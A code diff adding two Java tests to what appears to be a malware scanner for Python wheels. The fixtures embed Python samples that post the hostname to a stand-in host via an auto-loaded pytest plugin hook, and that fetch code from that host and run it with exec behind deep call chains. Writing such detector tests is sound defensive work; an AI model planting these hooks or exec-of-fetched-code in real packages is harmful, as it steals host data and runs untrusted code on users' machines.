@@ -212,6 +212,52 @@ class PypiTriggersTest {
     }
   }
 
+  /** Nobody calls the second function, and yet it names the first for the third. */
+  @Test
+  void whoHandsAFunctionWhatItCallsByItselfTakesNothingFromIt() throws IOException {
+    Artifact plugged =
+        Artifact.wheel("demo", "1.0")
+            .file("demo/__init__.py", "")
+            .file(
+                "demo/plug.py",
+                """
+                import socket, requests
+                def tell():
+                    requests.post('http://drop.example/', json={'h': socket.gethostname()})
+                def aside():
+                    pytest_configure(tell)
+                def pytest_configure(config=None):
+                    tell()
+                """)
+            .file("demo-1.0.dist-info/entry_points.txt", "[pytest11]\ny = demo.plug\n");
+    assertThat(rules(inspect(plugged))).contains("import-reports-the-machine");
+  }
+
+  @Test
+  void whatIsHandedThroughCallsThatAreNotFollowedMayRun() throws IOException {
+    StringBuilder deep = new StringBuilder("def f0(run):\n    run('x')\n");
+    for (int i = 1; i < 60; i++) {
+      deep.append("def f%d(run):\n    f%d(run)\n".formatted(i, i - 1));
+    }
+    for (String start :
+        List.of(
+            "f59(fetched)\n",
+            "def r(run, n):\n    r(run, n) if n else run('x')\nr(fetched, 3)\n")) {
+      Artifact demo =
+          Artifact.wheel("demo", "1.0")
+              .file(
+                  "demo/__init__.py",
+                  """
+                  import requests
+                  def fetched(name):
+                      exec(requests.get('https://drop.example/' + name).text)
+                  """
+                      + deep
+                      + start);
+      assertThat(rules(inspect(demo))).as(start).contains("import-runs-fetched-code");
+    }
+  }
+
   private static Artifact resolver(String start) {
     return Artifact.wheel("demo", "1.0")
         .file(
